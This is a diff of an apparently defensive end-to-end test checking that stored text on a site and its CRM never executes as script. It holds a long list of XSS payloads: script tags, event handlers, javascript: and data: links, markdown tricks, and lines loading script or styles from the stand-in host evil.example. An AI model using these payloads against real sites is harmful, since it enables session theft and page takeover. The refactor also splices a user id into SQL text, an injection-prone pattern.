@@ -7,66 +7,32 @@ import { contactTaskRow, taskRow } from "../support/task-rows.ts";
 
 /** Known payloads that turn stored text into script. Each of them would call `__x`. */
 const payloads = [
-	"<script>__x()</script>",
-	"<script src=//evil.example/x.js></script>",
-	"</title><script>__x()</script>",
-	"</style><script>__x()</script>",
-	"</textarea><script>__x()</script>",
-	"</script><script>__x()</script>",
-	"--><script>__x()</script>",
-	"]]><script>__x()</script>",
-	"<img src=x onerror=__x()>",
-	"<img src=x onerror='__x()'//",
-	'"><img src=x onerror=__x()>',
-	"'><img src=x onerror=__x()>",
-	"<svg onload=__x()>",
-	"<svg><animate onbegin=__x() attributeName=x dur=1s>",
+	...["<script>__x()</script>", "<script src=//evil.example/x.js></script>", "</title><script>__x()</script>"],
+	...["</style><script>__x()</script>", "</textarea><script>__x()</script>", "</script><script>__x()</script>"],
+	...["--><script>__x()</script>", "]]><script>__x()</script>", "<img src=x onerror=__x()>"],
+	...["<img src=x onerror='__x()'//", '"><img src=x onerror=__x()>', "'><img src=x onerror=__x()>"],
+	...["<svg onload=__x()>", "<svg><animate onbegin=__x() attributeName=x dur=1s>"],
 	"<svg><a xlink:href=javascript:__x()><text y=20>x</text></a></svg>",
 	"<math><mtext></mtext><mglyph><style><img src=x onerror=__x()></style></mglyph></math>",
-	"<body onload=__x()>",
-	"<iframe src=javascript:__x()></iframe>",
-	"<iframe srcdoc='<script>parent.__x()</script>'></iframe>",
-	"<object data=javascript:__x()></object>",
-	"<details open ontoggle=__x()>",
-	"<input autofocus onfocus=__x()>",
-	"<select autofocus onfocus=__x()>",
-	"<form action=javascript:__x()><input type=submit></form>",
-	"<a href=javascript:__x()>x</a>",
-	"<a href='java\nscript:__x()'>x</a>",
-	"<base href=//evil.example/>",
+	...["<body onload=__x()>", "<iframe src=javascript:__x()></iframe>"],
+	...["<iframe srcdoc='<script>parent.__x()</script>'></iframe>", "<object data=javascript:__x()></object>"],
+	...["<details open ontoggle=__x()>", "<input autofocus onfocus=__x()>", "<select autofocus onfocus=__x()>"],
+	...["<form action=javascript:__x()><input type=submit></form>", "<a href=javascript:__x()>x</a>"],
+	...["<a href='java\nscript:__x()'>x</a>", "<base href=//evil.example/>"],
 	"<link rel=stylesheet href=//evil.example/x.css>",
 	"<meta http-equiv=refresh content='0;url=javascript:__x()'>",
-	"<style>@import '//evil.example/x.css'</style>",
-	"<template><script>__x()</script></template>",
+	...["<style>@import '//evil.example/x.css'</style>", "<template><script>__x()</script></template>"],
 	"<noscript><p title='</noscript><img src=x onerror=__x()>'>",
-	"<is-land data-i='SavedList' data-p='{}'></is-land>",
-	"<div data-save=x data-results data-form>x</div>",
-	"[x](javascript:__x())",
-	"[x](JaVaScRiPt:__x())",
-	"[x](java&#115;cript:__x())",
-	"[x](&#106;avascript:__x())",
-	"[x](\u0001javascript:__x())",
-	"[x](data:text/html,<script>__x()</script>)",
-	"[x](//evil.example)",
-	'[x](https://example.com"onmouseover="__x())',
-	"![x](javascript:__x())",
-	'![x](x"onerror="__x())',
-	"![x](data:image/svg+xml,<svg onload=__x()>)",
-	"<javascript:__x()>",
-	"[x]: javascript:__x()\n\n[x]",
+	...["<is-land data-i='SavedList' data-p='{}'></is-land>", "<div data-save=x data-results data-form>x</div>"],
+	...["[x](javascript:__x())", "[x](JaVaScRiPt:__x())", "[x](java&#115;cript:__x())", "[x](&#106;avascript:__x())"],
+	...["[x](\u0001javascript:__x())", "[x](data:text/html,<script>__x()</script>)", "[x](//evil.example)"],
+	...['[x](https://example.com"onmouseover="__x())', "![x](javascript:__x())", '![x](x"onerror="__x())'],
+	...["![x](data:image/svg+xml,<svg onload=__x()>)", "<javascript:__x()>", "[x]: javascript:__x()\n\n[x]"],
 	"| <img src=x onerror=__x()> | b |\n|---|---|\n| <script>__x()</script> | c |",
-	"```html\n<script>__x()</script>\n```",
-	"`<script>__x()</script>`",
-	"> <script>__x()</script>",
-	"{{constructor.constructor('__x()')()}}",
-	"\u2028<script>__x()</script>\u2029",
-	"&lt;script&gt;__x()&lt;/script&gt;",
-	"&#60;img src=x onerror=__x()&#62;",
-	"<<script>script>__x()</script>",
-	"'-__x()-'",
-	"\\'-__x()//",
-	"<a id=__x><a id=__x name=y>",
-	"javascript:__x()",
+	...["```html\n<script>__x()</script>\n```", "`<script>__x()</script>`", "> <script>__x()</script>"],
+	...["{{constructor.constructor('__x()')()}}", "\u2028<script>__x()</script>\u2029"],
+	...["&lt;script&gt;__x()&lt;/script&gt;", "&#60;img src=x onerror=__x()&#62;", "<<script>script>__x()</script>"],
+	...["'-__x()-'", "\\'-__x()//", "<a id=__x><a id=__x name=y>", "javascript:__x()"],
 ];
 
 const groupsOf = (all: string[], size: number): string[][] =>
@@ -110,8 +76,8 @@ test("S-07, XSS: no stored text runs as script on any page, even without the con
 		await post(system, { slug, title: one, excerpt: two, content, tags: [three.slice(0, 50)] });
 		const place = { name: four, location: five, description: all, scholarships: six };
 		const universityId = await university(system, place);
-		const study = { title: two, fees: five, description: one, requirements: all };
-		const id = await program(system, { universityId, ...study });
+		const study = { universityId, title: two, fees: five, description: one, requirements: all };
+		const id = await program(system, study);
 		pages.push(`/blog/${slug}`);
 		// Pages with a payload that could end a script or title, and some others.
 		if (index < 2 || index % 3 === 0) pages.push(`/universities/${universityId}`, `/programs/${id}`);
@@ -120,10 +86,8 @@ test("S-07, XSS: no stored text runs as script on any page, even without the con
 	for (const path of [...lists, "/blog/feed.xml", ...pages]) {
 		await page.goto(path, { waitUntil: "load" });
 		expect(await scriptLinks(page), path).toEqual([]);
-		expect(
-			await page.locator(".prose [onerror], .prose script, .prose iframe, .prose svg, [onload], [onfocus]").count(),
-			path,
-		).toBe(0);
+		const active = page.locator(".prose :is([onerror], script, iframe, svg), [onload], [onfocus]");
+		expect(await active.count(), path).toBe(0);
 	}
 	// The visitor's console must be clean at the end (tests/support/browser.ts), so no policy violation was reported
 	// either.
@@ -144,20 +108,12 @@ test("S-07, XSS: no stored text runs as script in the case, the queue, the board
 		({ contactId } = await contactTaskRow(site.sql, due, two));
 	}
 	const each = "unnest($1::text[]) with ordinality as shown (payload, n)";
-	await site.sql(
-		`insert into reply_templates (name, text_en, text_ru, text_uz)
-			select left(n || ' ' || payload, 100), payload, payload, payload from ${each}`,
-		[shown],
-	);
-	await site.sql(
-		`insert into trash (noun, record_id, label, rows)
-			select 'contact', gen_random_uuid(), payload, '{"record": {}}' from ${each}`,
-		[shown],
-	);
-	await site.sql(
-		`insert into saved_views (user_id, name, query) select $2::uuid, left(n || ' ' || payload, 50), 'who=mine' from ${each}`,
-		[shown, owner?.id],
-	);
+	for (const insert of [
+		"reply_templates (name, text_en, text_ru, text_uz) select left(n || ' ' || payload, 100), payload, payload, payload",
+		`trash (noun, record_id, label, rows) select 'contact', gen_random_uuid(), payload, '{"record": {}}'`,
+		`saved_views (user_id, name, query) select '${owner?.id}'::uuid, left(n || ' ' || payload, 50), 'who=mine'`,
+	])
+		await site.sql(`insert into ${insert} from ${each}`, [shown]);
 	await site.sql("update contact_submissions set message = $1 where id = $2", [shown.join("\n"), contactId]);
 	await site.sql(
 		`insert into entries (applicant_id, kind, channel, text, is_pinned)
